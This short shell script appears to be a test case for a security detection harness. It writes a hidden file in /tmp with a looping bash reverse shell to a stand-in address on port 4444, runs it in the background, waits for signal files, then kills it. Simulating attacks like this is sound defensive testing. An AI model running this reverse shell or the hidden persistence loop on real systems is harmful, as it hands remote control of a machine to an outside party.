#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.keep <<'END'
while true; do
    setsid bash -c 'exec bash -i &>/dev/tcp/203.0.113.10/4444 <&1'
    sleep 1
done
END
nohup bash /tmp/.keep >/dev/null 2>&1 & loop=$!
wait_for /tmp/reached
rm /tmp/reached
wait_for /tmp/reached
kill $loop
took_place
